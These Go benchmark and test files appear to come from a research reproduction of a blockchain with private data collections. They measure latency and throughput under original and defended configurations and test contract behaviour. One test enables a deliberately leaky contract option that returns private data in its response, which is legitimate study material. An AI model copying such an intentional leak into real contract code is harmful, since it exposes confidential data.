		if i >= 0 {
			samples = append(samples, time.Since(start))
		}
	}
	return Result{Framework: o.Framework, Phase: PhaseExecution, Kind: kind, Stats: summarize(samples)}, nil
}

// MeasureValidation times the validation phase: ValidateTx on a committed
// peer for fully endorsed transactions of one kind.
func MeasureValidation(opts Options, kind TxKind) (Result, error) {
	o := opts.withDefaults()
	h, err := newHarness(o.Security)
	if err != nil {
		return Result{}, err
	}
	if err := h.seed(kind, o.Runs); err != nil {
		return Result{}, err
	}
	// Pre-endorse all transactions, then time validation only.
	txs := make([]*ledger.Transaction, 0, o.Runs)
	for i := 0; i < o.Runs; i++ {
		fn, args, err := h.proposalFor(kind, i)
		if err != nil {
			return Result{}, err
		}
		tx, err := h.endorse(fn, args)
		if err != nil {
			return Result{}, fmt.Errorf("perf: endorse %s run %d: %w", kind, i, err)
		}
		txs = append(txs, tx)
	}

	v := h.net.Peer("org2").Validator()
	// Warm up on the first transaction (validation has no side effects).
	for i := 0; i < 10 && len(txs) > 0; i++ {
		if code := v.ValidateTx(txs[0]); code != ledger.Valid {
			return Result{}, fmt.Errorf("perf: warmup validate %s: %v", kind, code)
		}
	}
	samples := make([]time.Duration, 0, o.Runs)
	for i, tx := range txs {
		start := time.Now()
		code := v.ValidateTx(tx)
		samples = append(samples, time.Since(start))
		if code != ledger.Valid {
			return Result{}, fmt.Errorf("perf: validate %s run %d: %v", kind, i, code)
		}
	}
	return Result{Framework: o.Framework, Phase: PhaseValidation, Kind: kind, Stats: summarize(samples)}, nil
}

// RunFig11 produces the full Fig. 11 dataset: execution and validation
// latency for read/write/delete under the original and the defended
// framework.
func RunFig11(runs int) ([]Result, error) {
	var out []Result
	variants := []Options{
		{Runs: runs, Framework: "original", Security: core.OriginalFabric()},
		{Runs: runs, Framework: "defended", Security: core.DefendedFabric()},
	}
	for _, v := range variants {
		for _, kind := range AllTxKinds {
			exec, err := MeasureExecution(v, kind)
			if err != nil {
				return nil, err
			}
			out = append(out, exec)
			val, err := MeasureValidation(v, kind)
			if err != nil {
				return nil, err
			}
			out = append(out, val)
		}
	}
	return out, nil
}

// Render prints Fig. 11 as a table grouped by phase, with the overhead of
// the defended framework relative to the original.
func Render(results []Result) string {
	byKey := make(map[string]Result, len(results))
	for _, r := range results {
		byKey[string(r.Phase)+"/"+string(r.Kind)+"/"+r.Framework] = r
	}
	var b strings.Builder
	b.WriteString("Fig. 11 — Impact of defense measures on system performance\n")
	for _, phase := range []Phase{PhaseExecution, PhaseValidation} {
		fmt.Fprintf(&b, "\n%s latency (per transaction)\n", phase)
		fmt.Fprintf(&b, "%-10s%-14s%-14s%-10s\n", "tx", "original", "defended", "overhead")
		for _, kind := range AllTxKinds {
			orig, okO := byKey[string(phase)+"/"+string(kind)+"/original"]
			def, okD := byKey[string(phase)+"/"+string(kind)+"/defended"]
			if !okO || !okD {
				continue
			}
			// Medians: on a shared machine the mean is dominated by
			// scheduler outliers.
			overhead := "n/a"
			if orig.Stats.Median > 0 {
				delta := 100 * (float64(def.Stats.Median) - float64(orig.Stats.Median)) / float64(orig.Stats.Median)
				overhead = fmt.Sprintf("%+.1f%%", delta)
			}
			fmt.Fprintf(&b, "%-10s%-14s%-14s%-10s\n",
				kind, orig.Stats.Median.Round(time.Microsecond), def.Stats.Median.Round(time.Microsecond), overhead)
		}
	}
	return b.String()
}
