package perf

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"reflect"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/peer"
)

// SnapshotResult compares the two cold-join paths for a peer that
// missed the whole chain: genesis replay (commit and validate every
// historical block, then reconcile missing private data) against
// snapshot install (export the source's state at its commit point,
// verify, install). Both joiners must end byte-identical to the source.
type SnapshotResult struct {
	// Blocks and TxsPerBlock describe the public history built on top
	// of the seeded private writes.
	Blocks      int `json:"blocks"`
	TxsPerBlock int `json:"txs_per_block"`
	// SeededPrivate is how many private keys the chain starts with, so
	// the snapshot carries private store records, not just public state.
	SeededPrivate int `json:"seeded_private"`
	// Height is the source peer's chain height at export.
	Height uint64 `json:"height"`

	// Snapshot artifact shape.
	SnapshotRecords int   `json:"snapshot_records"`
	SnapshotChunks  int   `json:"snapshot_chunks"`
	SnapshotBytes   int64 `json:"snapshot_bytes"`

	// ReplayNs is the genesis-replay join: CommitBlock over the full
	// chain plus reconciliation ticks until no private data is missing.
	ReplayNs int64 `json:"replay_ns"`
	// ExportNs + InstallNs is the snapshot join, split per side.
	ExportNs  int64 `json:"export_ns"`
	InstallNs int64 `json:"install_ns"`
	// Speedup is ReplayNs / (ExportNs + InstallNs).
	Speedup float64 `json:"speedup"`

	// StateIdentical is true when source, replay joiner and snapshot
	// joiner report byte-identical state hashes (the private namespaces
	// are part of the hash).
	StateIdentical bool `json:"state_identical"`
	// PurgesIdentical is true when the snapshot joiner's pending purge
	// schedule equals the source's.
	PurgesIdentical bool `json:"purges_identical"`
}

// MeasureSnapshot builds a chain of `blocks` public blocks (on top of
// `seeded` private writes) on a member peer, then times a genesis-replay
// join against a snapshot join of that chain and cross-checks that both
// converge to the source's exact state.
func MeasureSnapshot(blocks, txsPerBlock, seeded int) (SnapshotResult, error) {
	res := SnapshotResult{Blocks: blocks, TxsPerBlock: txsPerBlock, SeededPrivate: seeded}
	h, err := NewHarness(core.OriginalFabric(), seeded)
	if err != nil {
		return res, err
	}
	// The source is a collection member, so its snapshot carries the
	// private namespace, the hashed namespace and the purge schedule.
	src := h.h.net.Peer("org1")
	for b := 0; b < blocks; b++ {
		txs, err := h.EndorseTxs(b, txsPerBlock)
		if err != nil {
			return res, err
		}
		blk := ledger.NewBlock(src.Ledger().Height(), src.Ledger().LastHash(), txs)
		if err := src.CommitBlock(blk); err != nil {
			return res, fmt.Errorf("perf: build chain block %d: %w", b, err)
		}
	}
	res.Height = src.Ledger().Height()

	joiner := func(name string) (*peer.Peer, error) {
		id, err := h.h.net.CA("org2").Issue(name, identity.RolePeer)
		if err != nil {
			return nil, err
		}
		p, err := peer.New(peer.Config{
			Identity: id,
			Channel:  h.h.net.Channel,
			Gossip:   h.h.net.Gossip,
			Security: core.OriginalFabric(),
		})
		if err != nil {
			return nil, err
		}
		if err := p.ApproveDefinition(src.Definition("asset")); err != nil {
			return nil, err
		}
		return p, nil
	}

	// Genesis replay: commit every historical block, then reconcile the
	// private payloads the joiner was never gossiped (both are part of
	// what a real cold join pays).
	replayPeer, err := joiner("replay.org2")
	if err != nil {
		return res, err
	}
	replayStart := time.Now()
	for i := uint64(0); i < res.Height; i++ {
		blk, err := src.Ledger().Block(i)
		if err != nil {
			return res, err
		}
		if err := replayPeer.CommitBlock(blk); err != nil {
			return res, fmt.Errorf("perf: replay block %d: %w", i, err)
		}
	}
	for tick := 0; len(replayPeer.Validator().Missing()) > 0; tick++ {
		if tick > 1000 {
			return res, fmt.Errorf("perf: replay joiner still missing %d private entries after %d ticks",
				len(replayPeer.Validator().Missing()), tick)
		}
		replayPeer.TickReconcile()
	}
	res.ReplayNs = time.Since(replayStart).Nanoseconds()

	// Snapshot join: export at the source, install on a fresh peer.
	dir, err := os.MkdirTemp("", "pdc-snapshot-bench-")
	if err != nil {
		return res, err
	}
	defer os.RemoveAll(dir)
	artifact := dir + "/snap"
	exportStart := time.Now()
	m, err := src.ExportSnapshot(artifact)
	if err != nil {
		return res, fmt.Errorf("perf: export snapshot: %w", err)
	}
	res.ExportNs = time.Since(exportStart).Nanoseconds()
	snapPeer, err := joiner("snap.org2")
	if err != nil {
		return res, err
	}
	installStart := time.Now()
	if err := snapPeer.InstallSnapshot(artifact); err != nil {
		return res, fmt.Errorf("perf: install snapshot: %w", err)
	}
	res.InstallNs = time.Since(installStart).Nanoseconds()

	res.SnapshotChunks = len(m.Chunks)
	res.SnapshotRecords = m.Counts.State + m.Counts.Tombstones + m.Counts.Purges + m.Counts.Missing
	for _, ci := range m.Chunks {
		res.SnapshotBytes += ci.Bytes
	}
	if snapNs := res.ExportNs + res.InstallNs; snapNs > 0 {
		res.Speedup = float64(res.ReplayNs) / float64(snapNs)
	}

	srcHash := src.WorldState().StateHash()
	res.StateIdentical = bytes.Equal(srcHash, replayPeer.WorldState().StateHash()) &&
		bytes.Equal(srcHash, snapPeer.WorldState().StateHash())
	res.PurgesIdentical = reflect.DeepEqual(src.PvtStore().PendingPurges(), snapPeer.PvtStore().PendingPurges())
	if !res.StateIdentical {
		return res, fmt.Errorf("perf: joiners diverged from the source state (src %x, replay %x, snapshot %x)",
			srcHash[:6], replayPeer.WorldState().StateHash()[:6], snapPeer.WorldState().StateHash()[:6])
	}
	if !res.PurgesIdentical {
		return res, fmt.Errorf("perf: snapshot joiner's purge schedule diverged from the source")
	}
	return res, nil
}

// RenderSnapshot formats the cold-join comparison as a table.
func RenderSnapshot(r SnapshotResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Cold join: snapshot install vs genesis replay (%d blocks x %d txs, %d seeded private keys)\n",
		r.Blocks, r.TxsPerBlock, r.SeededPrivate)
	fmt.Fprintf(&b, "source height %d, artifact %d records in %d chunks (%d bytes)\n",
		r.Height, r.SnapshotRecords, r.SnapshotChunks, r.SnapshotBytes)
	fmt.Fprintf(&b, "%-26s %14s\n", "path", "wall clock")
	fmt.Fprintf(&b, "%-26s %14s\n", "genesis replay + reconcile", time.Duration(r.ReplayNs).Round(time.Microsecond))
	fmt.Fprintf(&b, "%-26s %14s  (export %s + install %s)\n", "snapshot export + install",
		time.Duration(r.ExportNs+r.InstallNs).Round(time.Microsecond),
		time.Duration(r.ExportNs).Round(time.Microsecond),
		time.Duration(r.InstallNs).Round(time.Microsecond))
	fmt.Fprintf(&b, "speedup %.1fx, state identical: %v, purge schedule identical: %v\n",
		r.Speedup, r.StateIdentical, r.PurgesIdentical)
	return b.String()
}

// SnapshotJSON marshals the result as indented JSON (the committed
// BENCH_snapshot.json baseline).
func SnapshotJSON(r SnapshotResult) ([]byte, error) {
	out, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}
