package perf

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
	"repro/internal/service"
)

// ReconcileResult summarizes one anti-entropy reconciliation scenario:
// dissemination to one member peer is lost for a batch of private
// writes, the reconciler burns failing attempts (with backoff) while the
// peer stays isolated, then the network heals and the reconciler ticks
// until the member store converges.
type ReconcileResult struct {
	// Txs is the number of private-write transactions whose data the
	// isolated member missed.
	Txs int
	// IsolatedTicks is how many reconciler ticks ran before the heal
	// (all failing).
	IsolatedTicks int
	// TicksToConverge is how many ticks after the heal until nothing was
	// pending.
	TicksToConverge int
	// Recovered counts collections recovered (one per transaction here).
	Recovered int
	// Attempts/Failures/GiveUps are the peer's reconciler counters.
	Attempts, Failures, GiveUps uint64
	// AttemptLatency is the per-attempt latency histogram.
	AttemptLatency metrics.HistogramSnapshot
	// Wall is the wall-clock time of the whole scenario.
	Wall time.Duration
}

// MeasureReconcile runs the reconciliation scenario on a fresh three-org
// network: org1 and org2 are PDC members, org2's anchor peer is isolated
// while txs private writes commit, the reconciler ticks isolatedTicks
// times against the dead network, then the network heals and the
// reconciler runs to convergence (bounded at maxTicks).
func MeasureReconcile(sec core.SecurityConfig, txs, isolatedTicks, maxTicks int) (ReconcileResult, error) {
	net, err := network.New(network.Options{
		Orgs:     []string{"org1", "org2", "org3"},
		Security: sec,
		Seed:     321,
	})
	if err != nil {
		return ReconcileResult{}, err
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		impl[name] = fn
	}
	if err := net.DeployChaincode(def, impl); err != nil {
		return ReconcileResult{}, err
	}

	gw := net.Gateway("org1")
	victim := net.Peer("org2")
	endorsers := []*peer.Peer{net.Peer("org1"), net.Peer("org3")}

	start := time.Now()
	net.Gossip.Isolate(victim.Name(), true)
	for i := 0; i < txs; i++ {
		res, err := gw.Submit(context.Background(),
			service.NewInvoke("asset", "setPrivate", "k"+strconv.Itoa(i), "12").
				WithEndorsers(service.Names(endorsers)...))
		if err != nil {
			return ReconcileResult{}, err
		}
		if res.Code != ledger.Valid {
			return ReconcileResult{}, fmt.Errorf("perf: reconcile tx %d: code %v", i, res.Code)
		}
	}

	out := ReconcileResult{Txs: txs, IsolatedTicks: isolatedTicks}
	for i := 0; i < isolatedTicks; i++ {
		victim.TickReconcile()
	}
	net.Gossip.Isolate(victim.Name(), false)
	for out.TicksToConverge < maxTicks && len(victim.Reconciler().Pending()) > 0 {
		out.Recovered += victim.TickReconcile()
		out.TicksToConverge++
	}
	out.Wall = time.Since(start)

	m := victim.Metrics()
	out.Attempts = m[metrics.ReconcileAttempts]
	out.Failures = m[metrics.ReconcileFailures]
	out.GiveUps = m[metrics.ReconcileGiveUps]
	out.AttemptLatency = victim.Timings()[metrics.ReconcileAttempt]
	return out, nil
}

// RenderReconcile renders the scenario summary as a small report.
func RenderReconcile(r ReconcileResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Anti-entropy reconciliation (%d private txs missed by one member)\n", r.Txs)
	fmt.Fprintf(&b, "  isolated ticks (all failing): %d\n", r.IsolatedTicks)
	fmt.Fprintf(&b, "  ticks to converge after heal: %d\n", r.TicksToConverge)
	fmt.Fprintf(&b, "  recovered collections:        %d\n", r.Recovered)
	fmt.Fprintf(&b, "  attempts=%d failures=%d gave_up=%d\n", r.Attempts, r.Failures, r.GiveUps)
	if r.AttemptLatency.Count > 0 {
		fmt.Fprintf(&b, "  attempt latency: count=%d mean=%s p95=%s max=%s\n",
			r.AttemptLatency.Count,
			r.AttemptLatency.Mean().Round(time.Microsecond),
			r.AttemptLatency.Quantile(0.95),
			r.AttemptLatency.Max)
	}
	fmt.Fprintf(&b, "  wall time: %s\n", r.Wall.Round(time.Microsecond))
	return b.String()
}
