package perf

import (
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"time"

	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/orderer"
	"repro/internal/raft"
)

// OrderCell is one point of the ordering-throughput grid: `Submitters`
// concurrent synchronous submitters pushing `Txs` transactions through a
// pipelined orderer cutting blocks of `BatchSize`.
type OrderCell struct {
	BatchSize  int     `json:"batch_size"`
	Submitters int     `json:"submitters"`
	Txs        int     `json:"txs"`
	TxsPerSec  float64 `json:"txs_per_sec"`
	// MeanTxsPerRound is how many transactions each raft consensus round
	// carried (orderer_txs_proposed / orderer_consensus_rounds): the
	// pipelining effect made visible — concurrent submitters coalesce
	// into multi-entry proposals.
	MeanTxsPerRound float64 `json:"mean_txs_per_round"`
	// ConsensusP95Ns is the 95th-percentile consensus round latency.
	ConsensusP95Ns int64 `json:"consensus_p95_ns"`
}

// OrderResult is the outcome of the ordering scenario: the throughput
// grid plus the raft-level batch-proposal comparison underlying it.
type OrderResult struct {
	TxsPerCell int         `json:"txs_per_cell"`
	Cells      []OrderCell `json:"cells"`

	// SequentialProposeNs is the mean cost of ordering 100 raft entries
	// one Propose (one consensus round) at a time.
	SequentialProposeNs float64 `json:"sequential_propose_ns_per_100"`
	// BatchProposeNs is the mean cost of the same 100 entries through a
	// single ProposeBatch round.
	BatchProposeNs float64 `json:"batch_propose_ns_per_100"`
	// ProposeBatchSpeedup is SequentialProposeNs / BatchProposeNs.
	ProposeBatchSpeedup float64 `json:"propose_batch_speedup"`

	// PipelineSpeedup is the throughput of the most concurrent cell
	// (max submitters, max batch size) over the serial baseline cell
	// (1 submitter, batch size 1).
	PipelineSpeedup float64 `json:"pipeline_speedup"`
}

func orderTx(id string) *ledger.Transaction {
	return &ledger.Transaction{
		TxID:            id,
		ChannelID:       "perf",
		Proposal:        &ledger.Proposal{TxID: id, Chaincode: "bench", Function: "set"},
		ResponsePayload: []byte(`{"tx_id":"` + id + `"}`),
	}
}

// MeasureOrder runs the ordering-throughput grid (batch sizes 1/10/100 x
// 1/4/16 submitters, `txs` transactions per cell) and the raft
// ProposeBatch-vs-sequential comparison.
func MeasureOrder(txs int) OrderResult {
	res := OrderResult{TxsPerCell: txs}
	batchSizes := []int{1, 10, 100}
	submitterCounts := []int{1, 4, 16}
	for _, bs := range batchSizes {
		for _, subs := range submitterCounts {
			res.Cells = append(res.Cells, measureOrderCell(bs, subs, txs))
		}
	}
	base := cellThroughput(res.Cells, 1, 1)
	best := cellThroughput(res.Cells, batchSizes[len(batchSizes)-1], submitterCounts[len(submitterCounts)-1])
	if base > 0 {
		res.PipelineSpeedup = best / base
	}

	res.SequentialProposeNs, res.BatchProposeNs = measureProposeBatch(100, 20)
	if res.BatchProposeNs > 0 {
		res.ProposeBatchSpeedup = res.SequentialProposeNs / res.BatchProposeNs
	}
	return res
}

func cellThroughput(cells []OrderCell, batchSize, submitters int) float64 {
	for _, c := range cells {
		if c.BatchSize == batchSize && c.Submitters == submitters {
			return c.TxsPerSec
		}
	}
	return 0
}

func measureOrderCell(batchSize, submitters, txs int) OrderCell {
	svc := orderer.New(orderer.Config{
		OrdererCount: 3,
		BatchSize:    batchSize,
		Seed:         99,
	})
	svc.RegisterDelivery(func(*ledger.Block) {})

	var wg sync.WaitGroup
	start := time.Now()
	for s := 0; s < submitters; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			for i := s; i < txs; i += submitters {
				_ = svc.Submit(orderTx(fmt.Sprintf("o%d-%d-%d-%d", batchSize, submitters, s, i)))
			}
		}(s)
	}
	wg.Wait()
	svc.Flush() // cut the trailing partial batch so every tx is delivered
	elapsed := time.Since(start)
	svc.Stop()

	cell := OrderCell{
		BatchSize:  batchSize,
		Submitters: submitters,
		Txs:        txs,
		TxsPerSec:  float64(txs) / elapsed.Seconds(),
	}
	counters := svc.Metrics()
	if rounds := counters[metrics.OrdererRounds]; rounds > 0 {
		cell.MeanTxsPerRound = float64(counters[metrics.OrdererBatchedTxs]) / float64(rounds)
	}
	cell.ConsensusP95Ns = svc.Timings()[metrics.OrdererConsensus].Quantile(0.95).Nanoseconds()
	return cell
}

// measureProposeBatch times ordering n raft entries sequentially (n
// consensus rounds) versus as one ProposeBatch (one round), averaged
// over reps, on fresh 3-node clusters.
func measureProposeBatch(n, reps int) (seqNs, batchNs float64) {
	payload := []byte("bench-entry")
	datas := make([][]byte, n)
	for i := range datas {
		datas[i] = payload
	}

	seq := raft.NewCluster(3, 7)
	if _, err := seq.ElectLeader(500); err != nil {
		return 0, 0
	}
	if _, err := seq.Propose(payload, 500); err != nil { // warm up post-election state
		return 0, 0
	}
	start := time.Now()
	for r := 0; r < reps; r++ {
		for i := 0; i < n; i++ {
			if _, err := seq.Propose(payload, 500); err != nil {
				return 0, 0
			}
		}
	}
	seqNs = float64(time.Since(start).Nanoseconds()) / float64(reps)

	batch := raft.NewCluster(3, 7)
	if _, err := batch.ElectLeader(500); err != nil {
		return 0, 0
	}
	if _, _, err := batch.ProposeBatch(datas[:1], 500); err != nil {
		return 0, 0
	}
	start = time.Now()
	for r := 0; r < reps; r++ {
		if _, _, err := batch.ProposeBatch(datas, 500); err != nil {
			return 0, 0
		}
	}
	batchNs = float64(time.Since(start).Nanoseconds()) / float64(reps)
	return seqNs, batchNs
}

// RenderOrder formats the ordering scenario result as a table.
func RenderOrder(r OrderResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Pipelined ordering service, %d txs per cell (3 orderers)\n", r.TxsPerCell)
	fmt.Fprintf(&b, "%-11s %-11s %14s %16s %16s\n",
		"batch_size", "submitters", "txs/sec", "txs/raft round", "consensus p95")
	for _, c := range r.Cells {
		fmt.Fprintf(&b, "%-11d %-11d %14.0f %16.1f %16s\n",
			c.BatchSize, c.Submitters, c.TxsPerSec, c.MeanTxsPerRound,
			time.Duration(c.ConsensusP95Ns).Round(time.Microsecond))
	}
	fmt.Fprintf(&b, "pipeline speedup (16 submitters, batch 100 vs 1/1): %.1fx\n", r.PipelineSpeedup)
	fmt.Fprintf(&b, "raft 100-entry proposal: sequential %s, batched %s (%.1fx)\n",
		time.Duration(r.SequentialProposeNs).Round(time.Microsecond),
		time.Duration(r.BatchProposeNs).Round(time.Microsecond),
		r.ProposeBatchSpeedup)
	return b.String()
}

// OrderJSON marshals the result as indented JSON (the committed
// BENCH_order.json baseline).
func OrderJSON(r OrderResult) ([]byte, error) {
	out, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}
