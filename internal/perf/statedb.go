package perf

import (
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"time"

	"repro/internal/statedb"
)

// StateDBResult is the outcome of the statedb micro-scenario: mean
// nanoseconds per operation for the read paths the peer exercises, over
// a store of Keys keys, plus the store's own operation counters.
type StateDBResult struct {
	// Keys is the namespace size the scenario ran against.
	Keys int `json:"keys"`
	// ScanWidth is how many keys each range scan covers.
	ScanWidth int `json:"scan_width"`
	// ReadSet is how many keys each MVCC version check covers.
	ReadSet int `json:"read_set"`

	// GetRangeNs is a value-copying range scan (chaincode range query).
	GetRangeNs float64 `json:"get_range_ns"`
	// RangeVersionsNs is the version-only scan (phantom-read check).
	RangeVersionsNs float64 `json:"range_versions_ns"`
	// GetVersionPerKeyNs is a ReadSet-sized MVCC check done key by key.
	GetVersionPerKeyNs float64 `json:"get_version_per_key_ns"`
	// GetVersionsBatchedNs is the same check through one GetVersions.
	GetVersionsBatchedNs float64 `json:"get_versions_batched_ns"`
	// SnapshotTakeNs is taking + releasing a consistent view.
	SnapshotTakeNs float64 `json:"snapshot_take_ns"`
	// SnapshotGetNs is a point read through a snapshot.
	SnapshotGetNs float64 `json:"snapshot_get_ns"`
	// ContendedGetRangeNs is GetRangeNs with a concurrent writer
	// committing to a different namespace (striped locks: the writer
	// shouldn't slow the scan down).
	ContendedGetRangeNs float64 `json:"contended_get_range_ns"`

	// Stats are the store's counters after the scenario.
	Stats statedb.Stats `json:"stats"`
}

// timeOp returns the mean duration of op over iters runs.
func timeOp(iters int, op func()) float64 {
	start := time.Now()
	for i := 0; i < iters; i++ {
		op()
	}
	return float64(time.Since(start).Nanoseconds()) / float64(iters)
}

// MeasureStateDB runs the world-state micro-scenario over a store with
// `keys` keys per namespace.
func MeasureStateDB(keys int) StateDBResult {
	const (
		scanWidth = 100
		readSet   = 32
		scanIters = 2000
		ptIters   = 100000
	)
	db := statedb.New()
	pad := len(fmt.Sprintf("%d", keys-1))
	key := func(i int) string { return fmt.Sprintf("k%0*d", pad, i) }
	for ns := 0; ns < 2; ns++ {
		for i := 0; i < keys; i++ {
			db.Put(fmt.Sprintf("ns%d", ns), key(i), []byte("value"))
		}
	}

	start, end := key(keys/2), key(keys/2+scanWidth)
	readKeys := make([]string, readSet)
	for i := range readKeys {
		readKeys[i] = key(i * (keys / readSet))
	}

	res := StateDBResult{Keys: keys, ScanWidth: scanWidth, ReadSet: readSet}
	res.GetRangeNs = timeOp(scanIters, func() { db.GetRange("ns0", start, end) })
	res.RangeVersionsNs = timeOp(scanIters, func() { db.RangeVersions("ns0", start, end) })
	res.GetVersionPerKeyNs = timeOp(ptIters/readSet, func() {
		for _, k := range readKeys {
			db.GetVersion("ns0", k)
		}
	})
	res.GetVersionsBatchedNs = timeOp(ptIters/readSet, func() { db.GetVersions("ns0", readKeys) })
	res.SnapshotTakeNs = timeOp(scanIters, func() { db.Snapshot().Release() })
	snap := db.Snapshot()
	i := 0
	res.SnapshotGetNs = timeOp(ptIters, func() {
		snap.Get("ns0", key(i%keys))
		i++
	})
	snap.Release()

	// Contended scan: a writer hammers ns1 while we scan ns0. With one
	// lock per namespace the scan should cost about the same as the
	// uncontended case.
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for j := 0; ; j++ {
			select {
			case <-stop:
				return
			default:
				db.Put("ns1", key(j%keys), []byte("w"))
			}
		}
	}()
	res.ContendedGetRangeNs = timeOp(scanIters, func() { db.GetRange("ns0", start, end) })
	close(stop)
	wg.Wait()

	res.Stats = db.Stats()
	return res
}

// RenderStateDB formats the statedb scenario result as a table.
func RenderStateDB(r StateDBResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "World state (sharded statedb), %d keys/namespace, %d-key scans, %d-key read sets\n",
		r.Keys, r.ScanWidth, r.ReadSet)
	fmt.Fprintf(&b, "%-34s %12s\n", "operation", "mean ns/op")
	rows := []struct {
		name string
		ns   float64
	}{
		{"GetRange (values copied)", r.GetRangeNs},
		{"RangeVersions (phantom check)", r.RangeVersionsNs},
		{"MVCC check, GetVersion per key", r.GetVersionPerKeyNs},
		{"MVCC check, batched GetVersions", r.GetVersionsBatchedNs},
		{"Snapshot take+release", r.SnapshotTakeNs},
		{"Snapshot point read", r.SnapshotGetNs},
		{"GetRange vs concurrent writer", r.ContendedGetRangeNs},
	}
	for _, row := range rows {
		fmt.Fprintf(&b, "%-34s %12.0f\n", row.name, row.ns)
	}
	fmt.Fprintf(&b, "counters: gets=%d puts=%d range_scans=%d snapshots=%d cow_clones=%d\n",
		r.Stats.Gets, r.Stats.Puts, r.Stats.RangeScans, r.Stats.Snapshots, r.Stats.CowClones)
	return b.String()
}

// StateDBJSON marshals the result as indented JSON (the committed
// BENCH_statedb.json baseline).
func StateDBJSON(r StateDBResult) ([]byte, error) {
	out, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}
