package contracts

import (
	"strings"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/pvtdata"
	"repro/internal/rwset"
	"repro/internal/statedb"
)

func invoke(t *testing.T, cc chaincode.Chaincode, peerOrg, fn string, args []string, seed map[string]string) (ledger.Response, *rwset.TxRWSet) {
	t.Helper()
	db := statedb.New()
	pvt := pvtdata.NewStore(db)
	for k, v := range seed {
		ver := pvt.ApplyHashedWrite("asset", "pdc1", []byte("h"+k), []byte("hv"))
		pvt.ApplyPrivateWrite("asset", "pdc1", k, []byte(v), ver)
	}
	def := &chaincode.Definition{
		Name: "asset",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	builder := rwset.NewBuilder()
	prop := &ledger.Proposal{TxID: "t", Chaincode: "asset", Function: fn, Args: args,
		Transient: map[string][]byte{"value": []byte("12")}}
	creator := &identity.Certificate{Subject: "client0.org1", Org: "org1", Role: identity.RoleClient}
	stub := chaincode.NewSimStub(prop, creator, peerOrg, def, db, pvt, builder)
	resp := cc.Invoke(stub)
	set, _ := builder.Build("t")
	return resp, set
}

func TestConstraints(t *testing.T) {
	maxC := MaxValue(15)
	if err := maxC(OpWrite, "k", 14); err != nil {
		t.Errorf("14 < 15 rejected: %v", err)
	}
	if err := maxC(OpWrite, "k", 15); err == nil {
		t.Error("15 accepted by MaxValue(15)")
	}
	minC := MinValue(10)
	if err := minC(OpDelete, "k", 11); err != nil {
		t.Errorf("11 > 10 rejected: %v", err)
	}
	if err := minC(OpDelete, "k", 10); err == nil {
		t.Error("10 accepted by MinValue(10)")
	}
}

func TestSetPrivateRespectsConstraint(t *testing.T) {
	cc := NewPDC(PDCOptions{Collection: "pdc1", Constraint: MinValue(10)})
	resp, set := invoke(t, cc, "org2", "setPrivate", []string{"k", "12"}, nil)
	if resp.Status != ledger.StatusOK {
		t.Fatalf("accepting write failed: %s", resp.Message)
	}
	if rwset.Classify(set) != rwset.TxWriteOnly {
		t.Fatalf("setPrivate produced %v", rwset.Classify(set))
	}
	resp, _ = invoke(t, cc, "org2", "setPrivate", []string{"k", "5"}, nil)
	if resp.Status == ledger.StatusOK {
		t.Fatal("constraint violation endorsed")
	}
	if !strings.Contains(resp.Message, "must be >") {
		t.Fatalf("message = %q", resp.Message)
	}
}

func TestSetPrivateLeakOption(t *testing.T) {
	quiet := NewPDC(PDCOptions{Collection: "pdc1"})
	resp, _ := invoke(t, quiet, "org1", "setPrivate", []string{"k", "12"}, nil)
	if len(resp.Payload) != 0 {
		t.Fatal("non-leaky contract returned a payload")
	}
	leaky := NewPDC(PDCOptions{Collection: "pdc1", LeakOnWrite: true})
	resp, _ = invoke(t, leaky, "org1", "setPrivate", []string{"k", "12"}, nil)
	if string(resp.Payload) != "12" {
		t.Fatalf("leaky payload = %q", resp.Payload)
	}
}

func TestReadPrivate(t *testing.T) {
	cc := NewPDC(PDCOptions{Collection: "pdc1"})
	resp, set := invoke(t, cc, "org1", "readPrivate", []string{"k"}, map[string]string{"k": "42"})
	if resp.Status != ledger.StatusOK || string(resp.Payload) != "42" {
		t.Fatalf("resp = %+v", resp)
	}
	if rwset.Classify(set) != rwset.TxReadOnly {
		t.Fatalf("readPrivate produced %v", rwset.Classify(set))
	}
	// Missing key errors.
	resp, _ = invoke(t, cc, "org1", "readPrivate", []string{"absent"}, nil)
	if resp.Status == ledger.StatusOK {
		t.Fatal("missing key read succeeded")
	}
	// Non-member peer errors (Use Case 1).
	resp, _ = invoke(t, cc, "org3", "readPrivate", []string{"k"}, map[string]string{"k": "42"})
	if resp.Status == ledger.StatusOK {
		t.Fatal("non-member read succeeded")
	}
}

func TestAddPrivate(t *testing.T) {
	cc := NewPDC(PDCOptions{Collection: "pdc1", Constraint: MaxValue(15)})
